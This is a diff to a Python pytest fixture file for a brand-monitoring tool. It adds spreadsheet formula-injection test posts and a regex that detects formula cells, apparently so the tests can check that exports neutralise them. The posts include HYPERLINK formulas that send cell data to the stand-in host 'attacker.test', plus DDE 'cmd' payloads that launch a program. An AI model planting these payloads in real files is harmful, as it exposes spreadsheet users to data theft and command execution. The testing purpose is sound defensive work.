@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import base64
+import csv
 import json
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -133,3 +135,43 @@ def realdata() -> Path:
     if not REALDATA.is_dir():
         pytest.skip(f"real-world data folder {REALDATA} is absent on this machine")
     return REALDATA
+
+
+# Posts a spreadsheet would run as formulas, as an attacker writes them. The one with a leading
+# space is inert as written but the file importer trims it: exports must neutralise it too.
+FORMULA_POSTS = [
+    # (title, text, author)
+    ("=HYPERLINK(\"http://attacker.test/?x=\"&A1,\"click\")", "acme price list", "ann"),
+    ("Acme news", "=HYPERLINK(\"http://attacker.test/?x=\"&A1,\"acme\")", "bob"),
+    ("+cmd|' /C calc'!A0", "acme +1", "@mallory"),
+    ("-2+3+cmd|' /C calc'!A0", "-acme-1", "=1+1"),
+    ("Acme", " =1+1 acme", " @SUM(1+1)"),
+    ("\t=1+1 acme", "@acme hello", "\r=1+1"),
+]
+# How a spreadsheet sees a cell: leading blanks trimmed, then a formula if it starts so.
+FORMULA_CELL = re.compile(r"^\s*[=+\-@]")
+
+
+def formula_watch(folder: Path) -> tuple[Path, Path]:
+    """A watch with one ``file`` source holding :data:`FORMULA_POSTS`, collected for real into
+    ``folder``; return (watch.toml, database)."""
+    with open(folder / "posts.csv", "w", newline="", encoding="utf-8") as out:
+        writer = csv.writer(out)
+        writer.writerow(["id", "title", "text", "author", "published_at"])
+        for n, (title, text, author) in enumerate(FORMULA_POSTS):
+            writer.writerow([n, title, text, author, f"2026-06-{10 + n:02d} 10:00:00"])
+    config = folder / "watch.toml"
+    config.write_text('name = "Formulas"\n\n[[brands]]\nname = "Acme"\nquery = "acme"\n'
+                      'own = true\n\n[[sources]]\nname = "posts"\nkind = "file"\n'
+                      'path = "posts.csv"\ncolumns = { id = "id", title = "title", '
+                      'text = "text", author = "author", published_at = "published_at" }\n',
+                      encoding="utf-8")
+    db = folder / "veille.duckdb"
+    collect(config, db)
+    return config, db
+
+
+@pytest.fixture(scope="session")
+def formula_db(tmp_path_factory) -> Path:
+    """A database whose posts start with spreadsheet formulas (read it, don't write)."""
+    return formula_watch(tmp_path_factory.mktemp("formulas"))[1]
